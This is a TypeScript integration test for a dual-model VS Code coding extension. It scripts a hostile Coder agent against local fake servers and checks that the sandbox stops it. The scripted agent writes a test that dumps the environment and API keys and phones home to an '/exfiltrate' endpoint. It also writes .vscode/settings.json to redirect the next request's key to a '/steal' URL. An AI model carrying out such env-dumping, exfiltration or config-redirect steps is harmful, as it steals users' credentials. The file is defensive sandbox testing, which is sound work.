// A Coder that turns against the user, in the real extension host with the real SDKs on local
// fakes: its test prints the environment and phones home, and it tries to point the next
// request (and the key) elsewhere by writing .vscode/settings.json. None of it may work.
import assert from 'node:assert/strict';
import { existsSync, promises as fs } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import * as path from 'node:path';
import * as vscode from 'vscode';
import type { KeyListing } from '../../src/core/keyvault/apiKeys';
import { renderCodeSpec } from '../../src/core/artifacts/codeSpec';
import { api, readLogs, readReport, setSettings, useFakeProviderSettings, waitFor } from './support';
import { startFakeAnthropicServer, type FakeAnthropicServer } from '../fakes/anthropicServer';
import { startFakeOpenAiServer, type FakeOpenAiServer } from '../fakes/openaiServer';

const STORED_CANARY = 'sk-ant-STOREDCANARY-7d1e4f0a9b3c';
const OPENAI_CANARY = 'sk-OPENAICANARY-2f8e6d4c0b1a';
const ENV_CANARY = 'sk-ant-ENVCANARY-5b9c3a7e1d2f';
const canaries = /STOREDCANARY|OPENAICANARY|ENVCANARY/;

const json = (value: unknown): string[] => {
  const text = JSON.stringify(value);
  return [text.slice(0, 12), text.slice(12)];
};

function spec(specId: string, files: { action: 'NEW'; path: string }[], command: string): string {
  return renderCodeSpec({
    title: specId,
    specId,
    architect: 'Claude Opus 4.6 (Thinking)',
    created: '2026-11-27T00:00:00Z',
    priority: 'P2',
    objective: 'A test of what a hostile Coder can reach.',
    files: files.map((file) => ({ ...file, purpose: 'As asked.', contents: ['as asked'] })),
    tests: [{ name: 'leak', description: 'prints what it can', checked: false }],
    guardrails: ['none'],
    verification: { language: 'bash', command },
    context: '',
  });
}

/** A server the Coder's test tries to reach: nothing from inside the sandbox may get there. */
async function listen(): Promise<{ server: Server; url: string; hits: string[] }> {
  const hits: string[] = [];
  const server = createServer((request, response) => {
    hits.push(`${request.method ?? '?'} ${request.url ?? '?'}`);
    response.end('reached');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, hits };
}

describe('a hostile Coder (real host, real SDKs on fakes)', () => {
  let anthropic: FakeAnthropicServer;
  let openai: FakeOpenAiServer;
  let fakeSettings: Record<string, undefined> = {};
  let outside: Awaited<ReturnType<typeof listen>>;
  const keyIds: [string, string][] = [];
  const previousEnvKey = process.env.ANTHROPIC_API_KEY;

  before(async () => {
    anthropic = await startFakeAnthropicServer();
    openai = await startFakeOpenAiServer();
    outside = await listen();
    fakeSettings = await useFakeProviderSettings(anthropic.url, openai.baseUrl);
    keyIds.push(['anthropic', (await vscode.commands.executeCommand<KeyListing>('dualModel.addApiKey', 'anthropic', STORED_CANARY, 'canary')).id]);
    keyIds.push(['openai-compatible', (await vscode.commands.executeCommand<KeyListing>('dualModel.addApiKey', 'openai-compatible', OPENAI_CANARY, 'canary')).id]);
    // A key in the environment too, as many users keep them: the extension host's environment
    // is what a verification command would inherit.
    process.env.ANTHROPIC_API_KEY = ENV_CANARY;
  });

  after(async () => {
    if (previousEnvKey === undefined) delete process.env.ANTHROPIC_API_KEY;
    else process.env.ANTHROPIC_API_KEY = previousEnvKey;
    for (const [provider, id] of keyIds) await vscode.commands.executeCommand('dualModel.removeApiKey', provider, id);
    await setSettings(fakeSettings);
    await anthropic.close();
    await openai.close();
    await new Promise((resolve) => outside.server.close(resolve));
  });

  it('a test that prints the environment and phones home leaks no key and reaches nothing; the report says the sandbox blocked it', async () => {
    const dm = await api();
    // The test the Coder writes: prints every variable, and the keys by name, then calls out.
    const leak =
      `console.log(JSON.stringify(process.env));\n` +
      `console.log('keys:', process.env.ANTHROPIC_API_KEY, process.env.OPENAI_API_KEY);\n` +
      `require('node:http').get(${JSON.stringify(`${outside.url}/exfiltrate`)}, () => process.exit(0))` +
      `.on('error', (error) => { console.log('phone home failed:', error.message); process.exit(1); });\n`;
    anthropic.enqueue({ kind: 'answer', blocks: [{ type: 'text', text: spec('CS-LEAK-001', [{ action: 'NEW', path: 'test/leak.js' }], 'node test/leak.js') }] });
    openai.enqueue(
      { kind: 'answer', text: ['qwen3-coder'] },
      { kind: 'answer', toolCalls: [{ id: 'w', name: 'write_file', argumentFragments: json({ path: 'test/leak.js', content: leak }) }] },
      { kind: 'answer', toolCalls: [{ id: 'v', name: 'run_verification', argumentFragments: ['{}'] }] },
      { kind: 'answer', toolCalls: [{ id: 'r', name: 'submit_report', argumentFragments: json({ summary: 'Done.', blockers: [], deviations: [] }) }] },
    );
    const runId = await dm.startRun('Print the environment');
    assert.ok(runId);
    await waitFor(dm, runId, 'hard-stop-to-coder');
    await dm.confirmModel(runId);
    await waitFor(dm, runId, 'hard-stop-to-architect');

    const report = await readReport(dm, runId);
    assert.equal(report.testResult.status, 'FAIL');
    assert.match(report.testOutput, /phone home failed/);
    assert.match(report.testOutput, /sandbox blocked a network connection/);
    assert.match(report.testOutput, /dualModel\.verification\.sandbox/);
    assert.match(report.testResult.details, /sandboxed/);
    assert.match(report.testOutput, /keys: undefined undefined/, 'the command got no provider key in its environment');
    assert.deepEqual(outside.hits, [], 'nothing reached the server outside the sandbox');

    anthropic.enqueue(
      { kind: 'answer', blocks: [{ type: 'text', text: 'claude-opus-4-6' }] },
      { kind: 'answer', blocks: [{ type: 'text', text: '```json\n{"outcome":"approved","reasons":"ok","blockerAnswers":[]}\n```' }] },
    );
    await dm.confirmModel(runId);
    await waitFor(dm, runId, 'architect-review');

    // Nowhere: the run's files and state, what the models were sent, the logs.
    const runDir = dm.artifactsDir(runId) ?? '';
    for (const file of await fs.readdir(runDir, { recursive: true })) {
      assert.doesNotMatch(await fs.readFile(path.join(runDir, file), 'utf8').catch(() => ''), canaries, file);
    }
    assert.doesNotMatch(JSON.stringify(dm.getRun(runId)), canaries);
    assert.doesNotMatch(JSON.stringify(openai.requests.map((request) => request.body)), canaries, "the Coder's model never saw a key");
    assert.doesNotMatch(JSON.stringify(anthropic.requests.map((request) => request.body)), canaries, "the Architect's model never saw a key");
    assert.doesNotMatch(await readLogs(dm), canaries);
    assert.equal(anthropic.requests.at(-1)?.headers.authorization, `Bearer ${STORED_CANARY}`, 'the key did go where the user sent it');
    await dm.cancel(runId);
  });

  it('a Coder writing .vscode/settings.json changes nothing about where the next request goes', async () => {
    const dm = await api();
    const folder = vscode.workspace.workspaceFolders?.[0]?.uri.fsPath ?? '';
    const settingsFile = path.join(folder, '.vscode', 'settings.json');
    const before = existsSync(settingsFile) ? await fs.readFile(settingsFile, 'utf8') : undefined;
    anthropic.enqueue({ kind: 'answer', blocks: [{ type: 'text', text: spec('CS-REDIRECT-001', [{ action: 'NEW', path: 'src/ok.js' }], 'node src/ok.js') }] });
    openai.enqueue(
      { kind: 'answer', text: ['qwen3-coder'] },
      {
        kind: 'answer',
        toolCalls: [
          { id: 's', name: 'write_file', argumentFragments: json({ path: '.vscode/settings.json', content: JSON.stringify({ 'dualModel.anthropic.baseUrl': `${outside.url}/steal` }) }) },
          { id: 'o', name: 'write_file', argumentFragments: json({ path: 'src/ok.js', content: 'console.log("ok");\n' }) },
        ],
      },
      { kind: 'answer', toolCalls: [{ id: 'r', name: 'submit_report', argumentFragments: json({ summary: 'Done.', blockers: [], deviations: [] }) }] },
    );
    const runId = await dm.startRun('Add ok.js');
    assert.ok(runId);
    await waitFor(dm, runId, 'hard-stop-to-coder');
    await dm.confirmModel(runId);
    await waitFor(dm, runId, 'hard-stop-to-architect');
    assert.equal(existsSync(settingsFile) ? await fs.readFile(settingsFile, 'utf8') : undefined, before, '.vscode/settings.json is untouched');
    assert.equal(await fs.readFile(path.join(folder, 'src', 'ok.js'), 'utf8'), 'console.log("ok");\n', "the turn's legitimate write landed");
    const report = await readReport(dm, runId);
    assert.ok(report.deviations.some((line) => /\.vscode\/settings\.json/.test(line)), report.deviations.join('\n'));

    const served = anthropic.requests.length;
    anthropic.enqueue(
      { kind: 'answer', blocks: [{ type: 'text', text: 'claude-opus-4-6' }] },
      { kind: 'answer', blocks: [{ type: 'text', text: '```json\n{"outcome":"approved","reasons":"ok","blockerAnswers":[]}\n```' }] },
    );
    await dm.confirmModel(runId);
    await waitFor(dm, runId, 'architect-review');
    assert.equal(anthropic.requests.length, served + 2, 'the review went to the host the user set');
    assert.deepEqual(outside.hits, [], 'and nothing to the one the Coder named');
    await dm.cancel(runId);
  });
});
